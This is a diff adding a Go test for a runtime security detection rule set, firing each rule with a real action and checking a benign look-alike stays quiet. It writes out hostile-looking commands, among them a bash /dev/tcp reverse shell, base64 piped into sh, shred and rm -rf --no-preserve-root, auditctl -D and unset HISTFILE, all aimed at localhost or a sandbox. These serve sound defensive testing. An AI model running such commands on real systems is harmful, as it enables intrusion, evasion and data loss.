@@ -1,0 +1,174 @@
+package defaults_test
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/kestrel-project/kestrel/internal/testutil/dockertest"
+)
+
+// The rules of kestrel_network_rules.yaml (discovery, command and control,
+// exfiltration, collection, impact, lateral movement, defence evasion),
+// each fired by a real action and quiet for a benign look-alike. Network
+// traffic stays on 127.0.0.1 or inside a container without a network.
+func TestNetworkRulesLive(t *testing.T) {
+	dir := t.TempDir()
+	tools := filepath.Join(dir, "tools")
+	if err := os.MkdirAll(tools, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	// busybox under a tool's name: the kernel names the process after it.
+	for _, n := range []string{"nc", "httpd", "iodine", "dig", "rclone", "rsync", "xmrig", "xmllint"} {
+		if err := os.Symlink("/usr/bin/busybox", filepath.Join(tools, n)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	netScript(t, filepath.Join(tools, "auditctl"), "exit 0")
+	netScript(t, filepath.Join(tools, "nginx"), "whoami >/dev/null")
+	netScript(t, filepath.Join(tools, "mytool"), "whoami >/dev/null")
+	for _, f := range []string{"victim", "victim2"} {
+		if err := os.WriteFile(filepath.Join(dir, f), []byte("data\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	payload, data := "/tmp/kestrel-net-payload", "/tmp/kestrel-net-data"
+	dl, etcTar := "/tmp/kestrel-net-dl", "/tmp/kestrel-net-etc.tar"
+	for _, f := range []string{payload, data, dl, etcTar} {
+		defer os.Remove(f)
+	}
+
+	image := dockertest.Image(t, "kestrel-test/busybox:defaults-net")
+	id := dockertest.Run(t, image, []string{"--cap-add", "NET_ADMIN"}, "sleep", "60")
+	// The metadata address on the container's own loopback, and listeners
+	// on it and on 127.0.0.1, all inside the container's empty network.
+	netDocker(t, "exec", id, "ip", "addr", "add", "169.254.169.254/32", "dev", "lo")
+	netDocker(t, "exec", "-d", id, "nc", "-l", "-p", "80")
+	netDocker(t, "exec", "-d", id, "nc", "-l", "-p", "81")
+	dx := "docker exec " + id + " "
+
+	as := fire(t, true, func() {
+		// Reverse shell: bash connects to a local listener and hands the
+		// socket to sh as stdin/stdout (also: Outbound connection by a
+		// shell, Listening socket opened by nc).
+		run(t, tools+"/nc -l -p 47011 >/dev/null </dev/null & sleep 0.3")
+		run(t, `bash -c 'exec 3<>/dev/tcp/127.0.0.1/47011; sh -c "echo kestrel-revshell" <&3 >&3 2>&3'`)
+		// look-alike: a file, not a socket, becomes sh's stdout.
+		run(t, `bash -c 'exec 3>`+dir+`/revfile; sh -c "echo kestrel-revfile" >&3'`)
+		// look-alike of the outbound connection: nc (not a shell) connects.
+		run(t, tools+"/nc -l -p 47013 >/dev/null </dev/null & sleep 0.3")
+		run(t, "echo hi | "+tools+"/nc -w 1 127.0.0.1 47013")
+		// look-alike of the listener: busybox httpd (not a relay tool).
+		run(t, "timeout 1 "+tools+"/httpd -f -p 127.0.0.1:47014")
+		// Cloud metadata, inside the container; look-alike: 127.0.0.1.
+		run(t, dx+"sh -c 'echo hi | nc -w 1 169.254.169.254 80'")
+		run(t, dx+"sh -c 'echo hi | nc -w 1 127.0.0.1 81'")
+		// Packet socket and raw IP socket; look-alike: a UDP socket.
+		run(t, `python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)' kestrel-packet`)
+		run(t, `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)' kestrel-rawip`)
+		run(t, `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)' kestrel-udp`)
+		run(t, tools+"/iodine -v 2>/dev/null") // DNS tunnelling tool
+		run(t, tools+"/dig -v 2>/dev/null")    // look-alike
+		// Download into /tmp; look-alike: to /dev/null.
+		run(t, "curl -s -o "+dl+" http://127.0.0.1:1/")
+		run(t, "curl -s -o /dev/null http://127.0.0.1:1/kestrel-devnull")
+		// Temporary file made executable; look-alike: made readable.
+		run(t, "cp /bin/true "+payload+" && chmod +x "+payload)
+		run(t, "echo x > "+data+" && chmod 644 "+data)
+		// base64 into a shell; look-alike: into a file.
+		run(t, `sh -c 'echo ZWNobyBoaQo= | base64 -d | sh; : kestrel-b64-hit' >/dev/null`)
+		run(t, `sh -c 'echo ZWNobyBoaQo= | base64 -d > /dev/null; : kestrel-b64-benign'`)
+		// Archive of /etc; look-alike: of a work directory.
+		run(t, "tar -cf "+etcTar+" /etc/hostname 2>/dev/null")
+		run(t, "tar -cf "+dir+"/work.tar -C "+dir+" victim2")
+		run(t, tools+"/rclone version 2>/dev/null")  // Cloud exfiltration tool
+		run(t, tools+"/rsync --version 2>/dev/null") // look-alike
+		// whoami under a web server; look-alike: under another program.
+		run(t, tools+"/nginx")
+		run(t, tools+"/mytool")
+		// Network and process discovery in the container; look-alikes.
+		run(t, dx+"ip addr show >/dev/null")
+		run(t, dx+"ls /sys/class/net >/dev/null")
+		run(t, dx+"sh -c 'ln -sf /bin/busybox /tmp/ps && /tmp/ps' >/dev/null")
+		run(t, dx+"ls /proc >/dev/null")
+		// Data destruction; look-alike: an ordinary rm -rf of a file.
+		run(t, "shred -u "+dir+"/victim")
+		run(t, "rm -rf --no-preserve-root "+dir+"/absent-kestrel")
+		run(t, "rm -rf "+dir+"/victim2")
+		run(t, tools+"/xmrig --version 2>/dev/null")   // miner
+		run(t, tools+"/xmllint --version 2>/dev/null") // look-alike
+		// ssh in the container; look-alike: ssh-keygen.
+		run(t, dx+"sh -c 'ln -sf /bin/busybox /tmp/ssh && /tmp/ssh -V' 2>/dev/null")
+		run(t, dx+"sh -c 'ln -sf /bin/busybox /tmp/ssh-keygen && /tmp/ssh-keygen -V' 2>/dev/null")
+		// Security tool killed (no such process exists); look-alike.
+		run(t, "pkill -x falco-kestrel-absent")
+		run(t, "pkill -x net-absent-daemon")
+		run(t, tools+"/auditctl -D") // audit rules deleted
+		run(t, tools+"/auditctl -l") // look-alike: listed
+		run(t, `bash -c 'unset HISTFILE; : kestrel-hist-hit'`)
+		run(t, `bash -c 'echo "$HISTSIZE" >/dev/null; : kestrel-hist-benign'`)
+	})
+	inC := func(a firedAlert) bool { return a.OutputFields["container.id"] == id[:12] }
+	and := func(f, g func(firedAlert) bool) func(firedAlert) bool {
+		return func(a firedAlert) bool { return f(a) && g(a) }
+	}
+	cmdIs := func(c string) func(firedAlert) bool {
+		return func(a firedAlert) bool { return a.OutputFields["proc.cmdline"] == c }
+	}
+	parentIs := func(n string) func(firedAlert) bool {
+		return func(a firedAlert) bool { return a.OutputFields["proc.pname"] == n }
+	}
+	checks := []struct {
+		rule       string
+		hit, quiet func(firedAlert) bool
+	}{
+		{"Reverse shell redirects standard streams to a socket", procIs("kestrel-revshell"), procIs("kestrel-revfile")},
+		{"Outbound connection by a shell or interpreter", procIs("kestrel-revshell"), procIs("47013")},
+		{"Connection to a cloud metadata service", and(inC, procIs("169.254.169.254")), procIs("127.0.0.1 81")},
+		{"Packet or raw socket created", procIs("kestrel-packet"), procIs("kestrel-udp")},
+		{"Packet or raw socket created", procIs("kestrel-rawip"), procIs("ip addr show")},
+		{"Listening socket opened by a shell or relay tool", procIs("nc -l -p 47011"), procIs("47014")},
+		{"DNS tunnelling tool executed", procIs("iodine"), procIs("dig")},
+		{"Download tool writing to a temporary directory", procIs(dl), procIs("kestrel-devnull")},
+		{"File in a temporary directory made executable", procIs("chmod +x " + payload), procIs(data)},
+		{"Base64 payload decoded into a shell", procIs("kestrel-b64-hit"), procIs("kestrel-b64-benign")},
+		{"Archive of home directories or system configuration", procIs(etcTar), procIs("work.tar")},
+		{"Cloud exfiltration tool executed", procIs("rclone"), procIs("rsync")},
+		{"System discovery by a service process", parentIs("nginx"), parentIs("mytool")},
+		{"Network discovery in a container", and(inC, procIs("ip addr show")), procIs("ls /sys/class/net")},
+		{"Process discovery in a container", and(inC, cmdIs("ps")), procIs("ls /proc")},
+		{"Data destruction command", procIs("shred -u"), procIs("victim2")},
+		{"Data destruction command", procIs("--no-preserve-root"), procIs("victim2")},
+		{"Cryptocurrency miner executed", procIs("xmrig"), procIs("xmllint")},
+		{"SSH client run in a container", and(inC, cmdIs("ssh -V")), cmdIs("ssh-keygen -V")},
+		{"Security tool stopped or killed", procIs("falco-kestrel-absent"), procIs("net-absent-daemon")},
+		{"Audit rules deleted or auditing disabled", procIs("auditctl -D"), procIs("auditctl -l")},
+		{"Shell history disabled or cleared", procIs("kestrel-hist-hit"), procIs("kestrel-hist-benign")},
+	}
+	for _, c := range checks {
+		if len(fired(as, c.rule, c.hit)) == 0 {
+			t.Errorf("%s: not raised by its action", c.rule)
+		}
+		if q := fired(as, c.rule, c.quiet); len(q) > 0 {
+			t.Errorf("%s: raised by the benign look-alike: %s", c.rule, q[0].Output)
+		}
+	}
+}
+
+// netScript writes an executable shell script at path.
+func netScript(t *testing.T, path, body string) {
+	t.Helper()
+	if err := os.WriteFile(path, []byte("#!/bin/sh\n"+body+"\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// netDocker runs a docker command for the test's setup.
+func netDocker(t *testing.T, args ...string) {
+	t.Helper()
+	if out, err := exec.Command("docker", args...).CombinedOutput(); err != nil {
+		t.Fatalf("docker %s: %v %s", strings.Join(args, " "), err, out)
+	}
+}
